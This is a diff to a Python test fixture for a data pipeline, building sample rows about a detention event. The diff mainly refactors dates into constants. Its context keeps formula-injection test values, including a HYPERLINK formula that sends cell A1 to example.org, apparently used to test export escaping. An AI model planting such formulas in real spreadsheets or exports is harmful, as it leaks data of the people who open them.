@@ -26,13 +26,16 @@ from pipeline.storage import write_rows
 FORMULA = '=HYPERLINK("http://example.org/?"&A1,"see")'
 LONG = "word " * 10_000
 DAY = date(2015, 3, 13)
+MARCH = date(2015, 3, 1)
+
+VOLT = PersonRole("volt", "Irena Volt", "target")
 
 ROWS: dict[type, list[object]] = {
     Page: [Page("p", "p.txt", "0" * 64, "+title", "https://example.org/p", DAY, "en", 90_000, 2, None)],
     PageText: [PageText("p", LONG)],
     Item: [
         Item("p#0", "p", 0, "@SUM(1)", DAY, "day", "dateline", LONG, False, 0, 10, "x"),
-        Item("p#20", "p", 1, None, date(2015, 3, 1), "month", "dateline", "bell \x07 rings", False, 20, 30, "x"),
+        Item("p#20", "p", 1, None, MARCH, "month", "dateline", "bell \x07 rings", False, 20, 30, "x"),
     ],
     MentionRow: [MentionRow("p@1", "p#0", "person", "volt", "Volt", 1, 5, "x")],
     Person: [
@@ -45,10 +48,10 @@ ROWS: dict[type, list[object]] = {
         Place("nowhere", "Nowhere", "other", (), None, None, None, None, 1, 1),
     ],
     Event: [
-        Event("held", "detention", "COERCE", "arrest", "detained", "-2+3 were detained", DAY, DAY, "day", "minsk",
-              "Minsk", (PersonRole("volt", "Irena Volt", "target"), PersonRole("formula", FORMULA, "target")),
+        Event("held", "detention", "COERCE", "arrest", "detained", "-2+3 were detained", DAY, DAY, "day",
+              "minsk", "Minsk", (VOLT, PersonRole("formula", FORMULA, "target")),
               (OrganizationRole("archive", "Open \x07Archive", "other"),), ("p#0", "p#20"), 2, 0.9),
-        Event("appeal", "appeal_or_letter", "REQUEST", None, "called on", "It called on all.", date(2015, 3, 1),
+        Event("appeal", "appeal_or_letter", "REQUEST", None, "called on", "It called on all.", MARCH,
               date(2015, 3, 31), "month", "nowhere", "Nowhere", (),
               (OrganizationRole("archive", "Open \x07Archive", "actor"),), ("p#20",), 1, 0.4),
         Event("undated", "statement", "CONSULT", None, "said", "Volt said so.", None, None, None, None, None,
